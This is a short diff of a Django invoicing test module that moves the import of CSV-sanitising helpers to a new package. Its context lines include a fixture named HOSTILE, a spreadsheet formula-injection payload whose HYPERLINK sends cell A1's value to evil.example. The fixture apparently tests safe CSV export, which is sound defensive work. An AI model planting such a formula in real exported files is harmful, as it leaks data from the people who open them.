@@ -8,9 +8,9 @@ import pytest
 from django.urls import reverse
 from django.utils import timezone
 
+from common.spreadsheets import csv_safe_cell, safe_csv_writer
 from invoicing import services as invoicing
 from invoicing.tests.factories import ClientFactory, make_freelancer, make_invoice
-from web.spreadsheets import csv_safe_cell, safe_csv_writer
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
